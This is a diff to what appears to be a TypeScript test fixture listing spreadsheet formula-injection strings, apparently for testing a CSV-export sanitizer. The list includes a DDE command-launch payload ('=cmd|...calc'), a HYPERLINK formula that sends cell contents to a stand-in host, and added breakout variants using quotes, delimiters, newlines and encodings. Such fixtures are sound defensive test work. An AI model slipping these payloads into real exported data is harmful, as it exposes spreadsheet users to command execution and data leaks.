@@ -4,6 +4,7 @@ export const FORMULAS: readonly string[] = [
   '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00A0=1', '＝1+1', '＋1', '－1', '＠SUM(1)',
   '=1+1\nsecond line', '=HYPERLINK("http://example.invalid/?"&A1,"click")', '\u200B=1', '\uFEFF=1', '\u202E=1',
   "'=1", "''\t=1", '-5', '=cmd|\'/C calc\'!A0', '\0=1', '\t', '\n', '\rtext', '=', '- 1', ' \t -x',
+  'a";=1+1', 'a",=1+1', 'a\n=1+1', '#REF!', '#N/A', '_x003D_1+1', '{=1+1}', 'of:=1+1',
 ]; // prettier-ignore
 
 export const MARKUP: readonly string[] = [
